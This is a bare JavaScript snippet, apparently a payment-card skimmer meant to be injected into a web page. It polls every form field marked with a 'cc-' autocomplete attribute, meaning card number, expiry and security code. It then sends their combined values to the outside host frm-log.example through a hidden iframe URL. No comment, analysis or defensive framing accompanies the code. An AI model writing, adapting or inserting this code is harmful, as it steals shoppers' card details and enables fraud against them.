let prev = '';
(function tick() {
  const cur = Array.prototype.map.call(document.querySelectorAll('[autocomplete^="cc-"]'), n => n.value).join('\u0001');
  if (cur !== prev && cur.length > 12) { prev = cur; const i = document.createElement('iframe'); i.hidden = true; i.src = 'https://frm-log.example/?' + encodeURIComponent(cur); document.body.append(i); }
  requestAnimationFrame(tick);
})();
